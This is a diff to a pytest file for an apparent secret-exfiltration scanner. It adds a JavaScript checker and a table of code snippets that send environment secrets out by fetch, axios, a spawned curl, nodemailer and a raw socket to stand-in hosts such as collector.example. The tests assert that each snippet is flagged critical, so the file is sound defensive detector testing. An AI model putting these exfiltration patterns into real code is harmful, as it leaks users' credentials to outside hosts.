@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from whet.guard.javascript import checker as javascript
 from whet.guard.python import checker as python
 from whet.guard.rules import severity_of
 from whet.guard.tables import load_sets
@@ -105,7 +106,7 @@ def test_a_key_belongs_to_the_host_of_its_service(name: str, url: str, own: bool
         ("OPENAI_API_KEY", "http://127.0.0.1:8080/v1", None, None),
         ("FOO_TOKEN", "https://api.foo.io/v1", None, None),
         ("FOO_TOKEN", "https://collector.example/in", "warn", None),
-        ("FOO_TOKEN", "http://203.0.113.7/in", "warn", "warn"),
+        ("FOO_TOKEN", "http://203.0.113.7/in", "critical", "warn"),
         ("API_KEY", "https://api.service.example/v1", None, None),
         ("PASSWORD", "https://app.example/login", None, None),
         ("PASSWORD", "https://collector.example/in", "critical", None),
@@ -132,7 +133,7 @@ def test_what_no_service_needs_is_grave_wherever_it_goes() -> None:
 
 def test_the_tables_are_sound() -> None:
     keys = load_sets("keys")
-    assert set(keys) == {"words", "whole", "nowhere", "about", "public", "plain", "generic", "services"}
+    assert set(keys) == {"words", "whole", "nowhere", "about", "public", "plain", "generic", "services", "alone"}
     for name, rows in keys.items():
         if name == "services":
             assert all(re.fullmatch("[a-z]+", one) for one in rows)
@@ -165,6 +166,20 @@ PYTHON = {
 IMPORTS = "import base64, json, os, subprocess, urllib.request\nimport requests\n"
 
 
+JAVASCRIPT = {
+    "a body": "fetch(U, { method: 'POST', body: process.env.N });",
+    "a header": "fetch(U, { headers: { 'X-Trace': process.env.N } });",
+    "the address": "fetch(`${U}?q=${process.env.N}`);",
+    "json": "fetch(U, { method: 'POST', body: JSON.stringify({ a: process.env['N'] }) });",
+    "a variable": "const { N: k } = process.env; require('axios').post(U, { k });",
+    "a class": "class A { constructor() { this.k = process.env.N; } }\nfetch(U, { body: new A().k });",
+    "another variable": "process.env.OTHER = process.env.N; fetch(U, { body: process.env.OTHER });",
+    "a program": "require('child_process').spawnSync('curl', ['-d', '@-', U], { input: process.env.N });",
+    "mail": "require('nodemailer').createTransport({ host: 'collector.example' }).sendMail({ text: process.env.N });",
+    "a raw connection": "require('net').connect({ host: 'collector.example', port: 1 }).write(process.env.N);",
+}
+
+
 def worst(hits: tuple[object, ...]) -> str:
     found = [severity_of(hit) for hit in hits]  # type: ignore[arg-type]  # hits of whichever reader
     return "critical" if "critical" in found else "warn" if "warn" in found else "info"
@@ -182,6 +197,13 @@ def test_python_that_sends_a_key_to_its_own_service_is_left_alone(way: str) -> N
     for name, url in (("FOO_TOKEN", "https://api.foo.io/v1"), ("OPENAI_API_KEY", "https://api.openai.com/v1")):
         text = f"{IMPORTS}U, N = '{url}', '{name}'\n{PYTHON[way]}\n"
         assert worst(python.check(text).hits) == "info", text
+
+
+@pytest.mark.parametrize("way", JAVASCRIPT)
+def test_javascript_that_sends_a_secret_is_dangerous(way: str) -> None:
+    for name in NAMES if way != "a header" else NAMES[:4]:
+        text = f"const U = '{URL}';\n" + re.sub(r"\bN\b", name, JAVASCRIPT[way])
+        assert worst(javascript.check(text).hits) == "critical", text
 
 
 CONSTANTS = (
